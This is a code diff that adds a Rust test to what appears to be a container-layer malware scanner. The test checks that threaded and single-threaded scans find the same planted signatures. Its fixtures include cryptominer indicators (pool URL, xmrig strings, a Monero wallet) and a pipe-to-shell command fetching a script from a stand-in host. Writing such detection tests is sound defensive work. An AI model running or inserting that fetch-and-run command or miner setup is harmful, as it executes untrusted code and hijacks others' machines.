@@ -393,6 +393,72 @@ mod tests {
         }
     }
 
+    /// Many files of every size class (empty, small and copied, large and handed over
+    /// whole, several chunks), signatures at random places (across chunk ends too), ELF
+    /// and text mixed: the threaded path must report exactly the signals, at exactly the
+    /// offsets, of the single-threaded one. Catches any reordering in the hand-off.
+    #[test]
+    fn threaded_hand_off_keeps_every_signal_in_place() {
+        let mut x: u64 = 0x2545_f491_4f6c_dd1d;
+        let mut next = move |n: u64| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            x % n
+        };
+        let needles: [&[u8]; 5] = [
+            b"stratum+tcp://pool.minexmr.com:4444",
+            b"Usage: xmrig [OPTIONS]",
+            b"43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRysdjYTtdc8aHao7csiWa5BTP9PfNYzyfSbbrwoR",
+            b"curl -fsSL http://x.example/a.sh | sh",
+            b"--donate-level=N",
+        ];
+        let sizes = [0u64, 1, 700, 20_000, 40_000, 300_000, CHUNK as u64, 700_000];
+        let mut layer = Vec::new();
+        for i in 0..120 {
+            let size = sizes[next(sizes.len() as u64) as usize] as usize;
+            let elf = next(4) == 0;
+            let mut data = if elf {
+                crate::analyzers::binary::tiny_elf(b"")
+            } else {
+                Vec::new()
+            };
+            data.resize(size.max(data.len()), b' ');
+            for _ in 0..next(3) {
+                let n = needles[next(needles.len() as u64) as usize];
+                if data.len() > n.len() + 2 {
+                    let at = if next(2) == 0 && data.len() > CHUNK + 10 {
+                        CHUNK - 1 - next(n.len() as u64) as usize
+                    } else {
+                        64 + next((data.len() - n.len() - 64).max(1) as u64) as usize
+                    };
+                    let at = at.min(data.len() - n.len() - 1);
+                    data[at - 1] = b'\n';
+                    data[at..at + n.len()].copy_from_slice(n);
+                    data[at + n.len()] = b'\n';
+                }
+            }
+            layer.push(Entry::file(&format!("f/{i:03}"), 0o755, data));
+        }
+        let signals = |threaded: bool| {
+            let mut v: Vec<_> = scan_layer_with(&layer, &Limits::default(), threaded)
+                .signals
+                .into_iter()
+                .filter(|s| !s.kind.informational())
+                .map(|s| (format!("{:?}", s.subject), s.signature, s.offset))
+                .collect();
+            v.sort();
+            v
+        };
+        let one = signals(false);
+        assert!(
+            one.len() > 60,
+            "the layer must exercise the analyzers: {}",
+            one.len()
+        );
+        assert_eq!(one, signals(true));
+    }
+
     fn ids(scan: &LayerScan) -> Vec<(String, String, Severity)> {
         let mut v: Vec<_> = collate(&scan.signals, &|_, _| None)
             .into_iter()
